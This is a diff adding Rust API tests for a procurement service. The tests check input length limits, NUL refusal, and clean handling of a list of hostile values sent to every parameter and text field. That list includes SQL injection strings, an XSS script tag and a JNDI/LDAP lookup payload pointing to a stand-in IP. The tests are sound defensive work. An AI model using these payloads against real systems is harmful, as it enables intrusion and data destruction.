@@ -808,3 +808,625 @@ async fn an_over_long_request_target_gets_a_problem_document() {
         "name has 1 to 100 characters"
     );
 }
+
+/// Each string query parameter of a GET operation states its longest value in the API document;
+/// one character more gets 422 naming the parameter.
+#[actix_web::test]
+async fn an_over_long_filter_value_gets_422_naming_the_parameter() {
+    let world = exposure().await;
+    let app = &world.app;
+    let admin = &world.callers[0];
+    let document = app
+        .request(Method::GET, "/api-docs/openapi.json", None, None)
+        .await
+        .body;
+    let mut checked = Vec::new();
+    for operation in operations(app, "get").await {
+        let path = world.requests(&operation, admin)[0].clone();
+        let parameters = document["paths"][&operation.path]["get"]["parameters"]
+            .as_array()
+            .cloned()
+            .unwrap_or_default();
+        for parameter in parameters.iter().filter(|p| p["in"] == "query") {
+            let name = parameter["name"].as_str().unwrap();
+            let schema = &parameter["schema"];
+            let is_string = schema["type"] == "string"
+                || schema["type"]
+                    .as_array()
+                    .is_some_and(|types| types.contains(&json!("string")));
+            // A list of values says more than a length.
+            if !is_string || schema.get("enum").is_some() {
+                continue;
+            }
+            let Some(max) = schema["maxLength"].as_u64() else {
+                panic!("GET {}?{name} states no maxLength", operation.path);
+            };
+            let value = "a".repeat(usize::try_from(max).unwrap() + 1);
+            let response = app
+                .get(&format!("{path}?{name}={value}"), &admin.token)
+                .await;
+            assert_problem(
+                &response,
+                StatusCode::UNPROCESSABLE_ENTITY,
+                "validation_failed",
+            );
+            assert!(
+                response.body["errors"]
+                    .as_array()
+                    .unwrap()
+                    .iter()
+                    .any(|e| e["field"] == name && e["code"] == "invalid_length"),
+                "GET {path}?{name}: {}",
+                response.text
+            );
+            checked.push(format!("{}?{name}", operation.path));
+        }
+    }
+    assert!(checked.len() >= 15, "{checked:?}");
+}
+
+// --- 4. Injection strings and odd Unicode in every filter and text field -------------------------
+
+/// What the service must do with a value in a text field.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Fate {
+    /// Stored as the API document says: in NFC, trimmed.
+    Stored,
+    /// Refused with 422 and this field error code.
+    Refused(&'static str),
+}
+
+fn hostile() -> Vec<(&'static str, String, Fate)> {
+    use Fate::{Refused, Stored};
+    let plain = |name, value: &str| (name, value.to_owned(), Stored);
+    vec![
+        plain("sql or", "' OR 1=1 --"),
+        plain("sql drop", "\"; DROP TABLE participations; --"),
+        plain("like percent", "%"),
+        plain("like underscore", "_"),
+        plain("backslash", "\\"),
+        plain("like escapes", "100%_\\%"),
+        plain("script", "<script>alert(1)</script>"),
+        plain("jndi", "${jndi:ldap://203.0.113.1/a}"),
+        plain("full-width", "ＡＢＣ１２３"),
+        plain("half-width kana", "ｱｲｳｶﾞ"),
+        plain("enclosed", "㈱信州"),
+        plain("emoji zwj", "👩‍💻👨‍👩‍👧‍👦🇯🇵"),
+        plain("lone combining mark", "\u{0301}"),
+        plain("decomposed", "\u{304B}\u{3099}くと"),
+        plain("surrounding space", "\u{3000} 前後の空白 \u{3000}"),
+        (
+            "nul",
+            "a\u{0000}b".to_owned(),
+            Refused("invalid_characters"),
+        ),
+        (
+            "right-to-left override",
+            "\u{202e}evil".to_owned(),
+            Refused("invalid_characters"),
+        ),
+        (
+            "right-to-left mark",
+            "名前\u{200f}".to_owned(),
+            Refused("invalid_characters"),
+        ),
+        ("very long", "あ".repeat(5000), Refused("invalid_length")),
+    ]
+}
+
+/// What the API document says is stored: NFC, trimmed.
+fn normalized(value: &str) -> String {
+    use unicode_normalization::UnicodeNormalization;
+    value.nfc().collect::<String>().trim().to_owned()
+}
+
+/// Every byte but the unreserved ones percent-encoded.
+fn encoded(value: &str) -> String {
+    value
+        .bytes()
+        .map(|b| match b {
+            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'.' | b'_' | b'~' => {
+                char::from(b).to_string()
+            }
+            _ => format!("%{b:02X}"),
+        })
+        .collect()
+}
+
+/// Words of database errors: no answer may show one.
+const DATABASE_WORDS: &[&str] = &[
+    "syntax error",
+    "sqlite",
+    "postgres",
+    "diesel",
+    "near \"",
+    "unrecognized token",
+    "invalid byte sequence",
+    "no such table",
+    "no such column",
+    "relation \"",
+    "database error",
+    "panicked",
+];
+
+/// Why an answer is not a clean one, if it is not: a 5xx, an error that is not a problem
+/// document with a code, or a database's words.
+fn unclean(status: StatusCode, content_type: &str, text: &str) -> Option<String> {
+    if status.is_server_error() {
+        return Some(format!("{status}"));
+    }
+    if status.is_client_error() {
+        let code = serde_json::from_str::<Value>(text)
+            .ok()
+            .and_then(|body| body["code"].as_str().map(str::to_owned));
+        if content_type != "application/problem+json" || code.is_none_or(|c| c.is_empty()) {
+            return Some(format!("{status} without a problem code"));
+        }
+    }
+    let lower = text.to_lowercase();
+    DATABASE_WORDS
+        .iter()
+        .find(|word| lower.contains(*word))
+        .map(|word| format!("{status} says {word:?}"))
+}
+
+/// Every query parameter and every path parameter of every GET operation in the API document,
+/// given each hostile value, as the secretariat and as a coordinator: never a 5xx, an error is a
+/// problem document with a code, no database words; a name filter matches its wildcards literally;
+/// and the tables are intact afterwards.
+#[actix_web::test]
+async fn hostile_values_in_every_parameter_answer_cleanly() {
+    let world = exposure().await;
+    let app = &world.app;
+    let listed = format!("/api/v1/rounds/{}/participations", world.rounds[0]);
+    let before = app.get(&listed, &world.callers[0].token).await;
+    let mut failures = Vec::new();
+    let mut requests = 0;
+    for operation in operations(app, "get").await {
+        for caller in &world.callers[..2] {
+            let base = world.requests(&operation, caller)[0].clone();
+            let (path, _) = base.split_once('?').unwrap_or((&base, ""));
+            let mut targets = Vec::new();
+            for (parameter, _) in &operation.query_parameters {
+                for (name, value, _) in hostile() {
+                    targets.push((
+                        format!("{path}?{parameter}={}", encoded(&value)),
+                        name,
+                        value,
+                        Some(parameter),
+                    ));
+                }
+            }
+            for parameter in &operation.path_parameters {
+                let real = &world.path_values(&operation.path, parameter, caller)[0];
+                let template = operation.path.replace(&format!("{{{parameter}}}"), "\u{1}");
+                let filled = world.requests(
+                    &Operation {
+                        path: template,
+                        path_parameters: operation.path_parameters.clone(),
+                        query_parameters: Vec::new(),
+                    },
+                    caller,
+                )[0]
+                .clone();
+                assert!(filled.contains('\u{1}'), "{filled} ({real})");
+                for (name, value, _) in hostile() {
+                    targets.push((filled.replace('\u{1}', &encoded(&value)), name, value, None));
+                }
+            }
+            for (target, name, value, parameter) in targets {
+                let response = app
+                    .request(Method::GET, &target, Some(&caller.token), None)
+                    .await;
+                requests += 1;
+                if let Some(why) = unclean(response.status, response.content_type(), &response.text)
+                {
+                    failures.push(format!(
+                        "{} GET {} with {name}: {why}: {}",
+                        caller.name, operation.path, response.text
+                    ));
+                }
+                // A name filter matches what it says, wildcards and all.
+                if parameter.is_some_and(|p| p == "name") && response.status.is_success() {
+                    let wanted = normalized(&value).to_lowercase();
+                    for item in response.body["items"].as_array().unwrap() {
+                        let names = format!("{} {}", item["name"], item["romaji"]).to_lowercase();
+                        if !names.contains(&wanted) {
+                            failures.push(format!("GET {target} ({name}) matches {names}"));
+                        }
+                    }
+                }
+            }
+        }
+    }
+    assert!(requests > 1000, "{requests} requests");
+    assert!(
+        failures.is_empty(),
+        "{} of {requests} answers are not clean:\n{}",
+        failures.len(),
+        failures.join("\n")
+    );
+    let after = app.get(&listed, &world.callers[0].token).await;
+    assert_eq!(after.status, StatusCode::OK, "{}", after.text);
+    assert_eq!(after.body, before.body);
+}
+
+/// A text field the tests write and read back.
+#[derive(Debug, Clone, Copy)]
+enum Field {
+    ProcurementTitle,
+    ProcurementSummary,
+    Question,
+    Note,
+    ContactName,
+    ContactEmail,
+    ContactPhone,
+    UserName,
+    TokenName,
+    OrganizationContactName,
+}
+
+impl Field {
+    const ALL: [Field; 10] = [
+        Field::ProcurementTitle,
+        Field::ProcurementSummary,
+        Field::Question,
+        Field::Note,
+        Field::ContactName,
+        Field::ContactEmail,
+        Field::ContactPhone,
+        Field::UserName,
+        Field::TokenName,
+        Field::OrganizationContactName,
+    ];
+
+    /// Whether the field has a format of its own (an e-mail address, a phone number), which
+    /// may refuse even harmless text.
+    fn has_format(self) -> bool {
+        matches!(self, Field::ContactEmail | Field::ContactPhone)
+    }
+}
+
+/// The world the text fields live in.
+struct Texts {
+    app: TestApp,
+    admin: String,
+    coordinator: String,
+    draft: String,
+    procurement: String,
+    round: String,
+}
+
+impl Texts {
+    fn participation(&self) -> String {
+        format!("/api/v1/rounds/{}/participations/{A}", self.round)
+    }
+
+    /// Sends `value` in `field`.
+    async fn send(&self, field: Field, value: &str) -> Response {
+        let app = &self.app;
+        let participation = self.participation();
+        let answer = |extra: Value| {
+            let mut body = json!({"status": "joined"});
+            for (k, v) in extra.as_object().unwrap() {
+                body[k] = v.clone();
+            }
+            app.request(
+                Method::PUT,
+                &participation,
+                Some(&self.coordinator),
+                Some(body),
+            )
+        };
+        let draft = format!("/api/v1/procurements/{}", self.draft);
+        match field {
+            Field::ProcurementTitle => {
+                app.patch(&draft, &self.admin, json!({"title": value}))
+                    .await
+            }
+            Field::ProcurementSummary => {
+                app.patch(&draft, &self.admin, json!({"summary": value}))
+                    .await
+            }
+            Field::Question => {
+                let path = format!("/api/v1/procurements/{}/questions", self.procurement);
+                app.post(&path, Some(&self.coordinator), json!({"question": value}))
+                    .await
+            }
+            Field::Note => answer(json!({"note": value})).await,
+            Field::ContactName => answer(json!({"contact": {"name": value}})).await,
+            Field::ContactEmail => answer(json!({"contact": {"email": value}})).await,
+            Field::ContactPhone => answer(json!({"contact": {"phone": value}})).await,
+            Field::UserName => {
+                let email = format!("hostile.{}@example.lg.jp", uuid::Uuid::new_v4().simple());
+                let body = json!({"email": email, "display_name": value, "role": "viewer", "organization": A});
+                app.post("/api/v1/users", Some(&self.admin), body).await
+            }
+            Field::TokenName => {
+                let body = json!({"name": value, "scope": "read_only"});
+                app.post("/api/v1/tokens", Some(&self.coordinator), body)
+                    .await
+            }
+            Field::OrganizationContactName => {
+                let body = json!({"contacts": [{"name": value}]});
+                app.patch(&format!("/api/v1/organizations/{A}"), &self.admin, body)
+                    .await
+            }
+        }
+    }
+
+    /// What a failed request must leave unchanged: the state the field lives in.
+    async fn state(&self, field: Field) -> Value {
+        let app = &self.app;
+        let path = match field {
+            Field::ProcurementTitle | Field::ProcurementSummary => {
+                format!("/api/v1/procurements/{}", self.draft)
+            }
+            Field::Question => format!("/api/v1/procurements/{}/questions", self.procurement),
+            Field::Note | Field::ContactName | Field::ContactEmail | Field::ContactPhone => {
+                format!("/api/v1/rounds/{}/participations", self.round)
+            }
+            Field::UserName => format!("/api/v1/users?organization={A}&per_page=200"),
+            Field::TokenName => "/api/v1/tokens".to_owned(),
+            Field::OrganizationContactName => format!("/api/v1/organizations/{A}"),
+        };
+        let token = match field {
+            Field::TokenName => &self.coordinator,
+            _ => &self.admin,
+        };
+        let response = app.get(&path, token).await;
+        assert_eq!(response.status, StatusCode::OK, "{path}: {}", response.text);
+        response.body
+    }
+
+    /// The value stored, as the API returns it on the next read.
+    async fn stored(&self, field: Field, answer: &Value) -> Value {
+        let state = self.state(field).await;
+        let find = |list: &Value, id: &Value| {
+            list.as_array()
+                .and_then(|items| items.iter().find(|item| item["id"] == *id).cloned())
+                .unwrap_or(Value::Null)
+        };
+        let own_answer = || {
+            state["items"]
+                .as_array()
+                .and_then(|items| {
+                    items
+                        .iter()
+                        .find(|i| i["organization_id"] == answer["organization_id"])
+                        .cloned()
+                })
+                .unwrap_or(Value::Null)
+        };
+        match field {
+            Field::ProcurementTitle => state["title"].clone(),
+            Field::ProcurementSummary => state["summary"].clone(),
+            Field::Question => find(&state, &answer["id"])["question"].clone(),
+            Field::Note => own_answer()["note"].clone(),
+            Field::ContactName => own_answer()["contact"]["name"].clone(),
+            Field::ContactEmail => own_answer()["contact"]["email"].clone(),
+            Field::ContactPhone => own_answer()["contact"]["phone"].clone(),
+            Field::UserName => find(&state["items"], &answer["user"]["id"])["display_name"].clone(),
+            Field::TokenName => find(&state, &answer["id"])["name"].clone(),
+            Field::OrganizationContactName => state["contacts"][0]["name"].clone(),
+        }
+    }
+
+    /// The value in the success answer itself.
+    fn returned(field: Field, answer: &Value) -> Value {
+        match field {
+            Field::ProcurementTitle => answer["title"].clone(),
+            Field::ProcurementSummary => answer["summary"].clone(),
+            Field::Question => answer["question"].clone(),
+            Field::Note => answer["note"].clone(),
+            Field::ContactName => answer["contact"]["name"].clone(),
+            Field::ContactEmail => answer["contact"]["email"].clone(),
+            Field::ContactPhone => answer["contact"]["phone"].clone(),
+            Field::UserName => answer["user"]["display_name"].clone(),
+            Field::TokenName => answer["name"].clone(),
+            Field::OrganizationContactName => answer["contacts"][0]["name"].clone(),
+        }
+    }
+}
+
+/// Each hostile value in each main text field: stored exactly as the API document says (NFC,
+/// trimmed) and read back so, or refused with 422 and the field error its rule gives, and then
+/// nothing changed; never a 5xx or a database's words; the tables intact afterwards.
+#[actix_web::test]
+async fn hostile_text_in_every_text_field_is_stored_as_documented_or_refused_without_a_trace() {
+    let app = spawn_app().await;
+    let admin = app.admin_token().await;
+    let coordinator = app.user("coordinator", A).await.token;
+    let draft = ok(
+        &app,
+        Method::POST,
+        "/api/v1/procurements",
+        &admin,
+        Some(simple_procurement("下書き")),
+    )
+    .await["id"]
+        .as_str()
+        .unwrap()
+        .to_owned();
+    let procurement = published(&app, &admin, "共同調達 入力確認").await;
+    let round = open_round(&app, &admin, &procurement).await;
+    let texts = Texts {
+        app,
+        admin,
+        coordinator,
+        draft,
+        procurement,
+        round,
+    };
+    let mut failures = Vec::new();
+    for field in Field::ALL {
+        for (name, value, fate) in hostile() {
+            let before = texts.state(field).await;
+            let response = texts.send(field, &value).await;
+            let case = format!("{field:?} with {name}");
+            if let Some(why) = unclean(response.status, response.content_type(), &response.text) {
+                failures.push(format!("{case}: {why}: {}", response.text));
+                continue;
+            }
+            let codes: Vec<&str> = response.body["errors"]
+                .as_array()
+                .map(|errors| errors.iter().filter_map(|e| e["code"].as_str()).collect())
+                .unwrap_or_default();
+            match (fate, response.status.is_success()) {
+                (Fate::Stored, true) => {
+                    let expected = normalized(&value);
+                    let returned = Texts::returned(field, &response.body);
+                    let stored = texts.stored(field, &response.body).await;
+                    let fits = |v: &Value| match field {
+                        // An address is stored in lower case.
+                        Field::ContactEmail => {
+                            v.as_str().map(str::to_lowercase) == Some(expected.to_lowercase())
+                        }
+                        _ => v.as_str() == Some(expected.as_str()),
+                    };
+                    if !fits(&returned) || !fits(&stored) {
+                        failures.push(format!("{case}: sent {value:?}, answered {returned}, stored {stored}, expected {expected:?}"));
+                    }
+                }
+                (Fate::Stored, false)
+                    if field.has_format() && codes.contains(&"invalid_format") => {}
+                (Fate::Refused(code), false)
+                    if response.status == StatusCode::UNPROCESSABLE_ENTITY
+                        && codes.contains(&code) => {}
+                _ => failures.push(format!(
+                    "{case}: expected {fate:?}, got {} {}",
+                    response.status, response.text
+                )),
+            }
+            if !response.status.is_success() {
+                let after = texts.state(field).await;
+                if after != before {
+                    failures.push(format!(
+                        "{case}: refused, but the state changed: {before} → {after}"
+                    ));
+                }
+            }
+        }
+    }
+    assert!(
+        failures.is_empty(),
+        "{} cases fail:\n{}",
+        failures.len(),
+        failures.join("\n")
+    );
+    let listed = texts.app.get("/api/v1/procurements", &texts.admin).await;
+    assert_eq!(listed.status, StatusCode::OK, "{}", listed.text);
+    assert_eq!(listed.body["total"], 2, "{}", listed.text);
+}
+
+/// A NUL in any string of a JSON body (not only in text fields: ids, codes, addresses), in a
+/// cell of an uploaded sheet, or percent-encoded in a path, is refused as the client's mistake,
+/// naming where, and changes nothing, on both databases (PostgreSQL cannot even compare text with
+/// a NUL, so each of these was a 500 there).
+#[actix_web::test]
+async fn a_nul_anywhere_in_a_request_is_refused_as_the_clients_mistake() {
+    let world = exposure().await;
+    let app = &world.app;
+    let admin = world.callers[0].token.as_str();
+    let coordinator = world.callers[1].token.as_str();
+    let nul = "a\u{0000}b";
+    let (procurement, round) = (&world.procurements[0], &world.rounds[0]);
+    let with = |overrides: Value| {
+        let mut body = simple_procurement("NUL確認");
+        for (k, v) in overrides.as_object().unwrap() {
+            body[k] = v.clone();
+        }
+        body
+    };
+    #[rustfmt::skip]
+    let cases: Vec<(Method, String, &str, Value, &str)> = vec![
+        (Method::POST, "/api/v1/users".into(), admin, json!({"email": "nul@example.lg.jp", "display_name": "x", "role": "viewer", "organization": nul}), "organization"),
+        (Method::POST, "/api/v1/procurements".into(), admin, with(json!({"lead_organization": nul})), "lead_organization"),
+        (Method::POST, "/api/v1/procurements".into(), admin, with(json!({"eligibility": {"include": [A, nul]}})), "eligibility.include[1]"),
+        (Method::PATCH, format!("/api/v1/procurements/{procurement}"), admin, json!({"lead_organization": nul}), "lead_organization"),
+        (Method::POST, "/api/v1/webhooks".into(), admin, json!({"url": "https://203.0.114.10/k", "events": ["*"], "organization": nul}), "organization"),
+        (Method::POST, "/api/v1/webhooks".into(), coordinator, json!({"url": format!("https://203.0.114.10/{nul}"), "events": ["*"]}), "url"),
+        (Method::POST, format!("/api/v1/rounds/{round}/reminders"), admin, json!({"organizations": [nul]}), "organizations[0]"),
+        (Method::POST, format!("/api/v1/rounds/{round}/estimate"), admin, json!({"participants": [{"organization": nul}]}), "participants[0].organization"),
+        (Method::PUT, format!("/api/v1/rounds/{round}/participations/{A}"), coordinator, json!({"status": "joined", "selected_options": [nul]}), "selected_options[0]"),
+        (Method::POST, "/api/v1/auth/login".into(), admin, json!({"email": nul, "password": "a wrong password"}), "email"),
+    ];
+    let state = || async {
+        let mut state = Vec::new();
+        for path in [
+            "/api/v1/procurements",
+            "/api/v1/users?per_page=200",
+            "/api/v1/webhooks",
+            "/api/v1/notifications?per_page=200",
+        ] {
+            state.push(app.get(path, admin).await.body);
+        }
+        state.push(
+            app.get(&format!("/api/v1/procurements/{procurement}"), admin)
+                .await
+                .body,
+        );
+        state.push(
+            app.get(&format!("/api/v1/rounds/{round}/participations"), admin)
+                .await
+                .body,
+        );
+        state
+    };
+    let before = state().await;
+    let mut failures = Vec::new();
+    for (method, path, token, body, field) in cases {
+        let response = app
+            .request(method.clone(), &path, Some(token), Some(body))
+            .await;
+        let named = response.body["errors"].as_array().is_some_and(|errors| {
+            errors
+                .iter()
+                .any(|e| e["field"] == field && e["code"] == "invalid_characters")
+        });
+        if response.status != StatusCode::UNPROCESSABLE_ENTITY
+            || response.body["code"] != "validation_failed"
+            || !named
+        {
+            failures.push(format!(
+                "{method} {path} ({field}): {} {}",
+                response.status, response.text
+            ));
+        }
+    }
+    let sheet = format!(
+        "団体コード,団体名,回答,オプション,数量,担当者,メール,電話,備考,回答日時\r\n{A}\u{0000},長野市,参加,,,,,,,\r\n"
+    );
+    let path = format!("/api/v1/rounds/{round}/participations:import?reason=x");
+    let response = app
+        .send_raw(
+            Method::POST,
+            &path,
+            Some(admin),
+            "text/csv",
+            sheet.into_bytes(),
+        )
+        .await;
+    if response.status != StatusCode::UNPROCESSABLE_ENTITY
+        || !response.text.contains("invalid_characters")
+    {
+        failures.push(format!("import: {} {}", response.status, response.text));
+    }
+    for path in [
+        format!("/api/v1/rounds/{round}%00"),
+        "/api/v1/organizations/20201%001".to_owned(),
+        "/api/v1/invitations/kyi_%00/accept".to_owned(),
+    ] {
+        let response = app.request(Method::GET, &path, Some(admin), None).await;
+        if response.status != StatusCode::NOT_FOUND || response.body["code"] != "not_found" {
+            failures.push(format!("GET {path}: {} {}", response.status, response.text));
+        }
+    }
+    assert!(
+        failures.is_empty(),
+        "{} requests with a NUL are not refused as they should be:\n{}",
+        failures.len(),
+        failures.join("\n")
+    );
+    assert_eq!(state().await, before, "a refused request changed something");
+}
